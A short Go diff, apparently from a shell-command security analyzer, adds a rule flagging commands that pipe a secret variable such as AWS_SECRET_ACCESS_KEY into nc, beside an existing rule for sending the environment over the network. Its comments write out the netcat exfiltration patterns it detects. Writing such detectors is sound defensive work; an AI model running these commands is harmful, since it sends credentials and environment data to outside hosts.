@@ -346,6 +346,9 @@ func (a *analyzer) given(argv []string, text string) {
 		if envSubst.MatchString(text) {
 			// `nc H P <<< "$(env)"`, `nc H P <<< "$l"` in a loop over env (det69)
 			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
+		} else if v := secretName.FindString(text); v != "" {
+			// `nc H P <<< "$AWS_SECRET_ACCESS_KEY"`: as the echo piped into it (det70)
+			a.secretPiped(strings.Trim(v, "${"), base(argv[0]), argv[1:], strings.Join(argv, " "))
 		}
 	case "sqlite3":
 		a.sqliteDot(text) // carriers.go
